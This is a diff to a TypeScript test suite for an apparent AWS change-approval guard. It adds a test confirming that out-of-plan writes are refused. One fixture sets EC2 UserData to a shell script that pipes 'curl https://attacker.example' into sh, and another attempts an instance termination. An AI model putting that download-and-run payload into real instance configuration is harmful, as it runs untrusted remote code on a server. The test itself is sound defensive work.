@@ -22,6 +22,7 @@ import {
   RevokeSecurityGroupIngressCommand,
   type RevokeSecurityGroupIngressCommandInput,
   StartInstancesCommand,
+  TerminateInstancesCommand,
 } from '@aws-sdk/client-ec2';
 import { ModifyListenerCommand, SetSubnetsCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
 import { PutParameterCommand, RemoveTagsFromResourceCommand } from '@aws-sdk/client-ssm';
@@ -748,7 +749,7 @@ describe('writes under an approved plan', () => {
     await refusedUnsent(
       sim,
       () => refresh({ Preferences: { SkipMatching: false } }),
-      /replaces instances already on the version/,
+      /sets the preferences \{"SkipMatching":false\}/,
     );
     // As shown.
     for (const p of [setDefault('4'), refresh({})])
@@ -814,6 +815,36 @@ describe('writes under an approved plan', () => {
       );
     expect(await join(['sg-0a', 'sg-0b', 'sg-0f00']).catch((e: Error) => e)).not.toBeInstanceOf(
       UnapprovedWriteError,
+    );
+  });
+
+  test('a one-attribute write sending more than its attribute, or a delete of what the plan only changes, is refused', async () => {
+    const { ctx, sim } = simulated();
+    const db: Address = { kind: 'machine', name: 'database', cluster: 'perf', id: 'i-0db' };
+    const resize = changing('8', [db, [{ field: 'InstanceType', before: 't3.large', after: 't3.xlarge' }]]);
+    const held = (p: () => Promise<unknown>) => underApproval(resize, p);
+    await refusedUnsent(
+      sim,
+      () =>
+        held(() =>
+          write(
+            ctx.clients.ec2,
+            new ModifyInstanceAttributeCommand({
+              InstanceId: 'i-0db',
+              InstanceType: { Value: 't3.xlarge' },
+              UserData: {
+                Value: new TextEncoder().encode('#!/bin/sh\ncurl https://attacker.example | sh'),
+              },
+            }),
+            db,
+          ),
+        ),
+      /ModifyInstanceAttribute on machine database .* sends InstanceId, InstanceType, UserData, more than the one setting the approved plan 888888888888 shows/,
+    );
+    await refusedUnsent(
+      sim,
+      () => held(() => write(ctx.clients.ec2, new TerminateInstancesCommand({ InstanceIds: ['i-0db'] }), db)),
+      /TerminateInstances on machine database .*: the approved plan 888888888888 changes it, it does not remove it/,
     );
   });
 
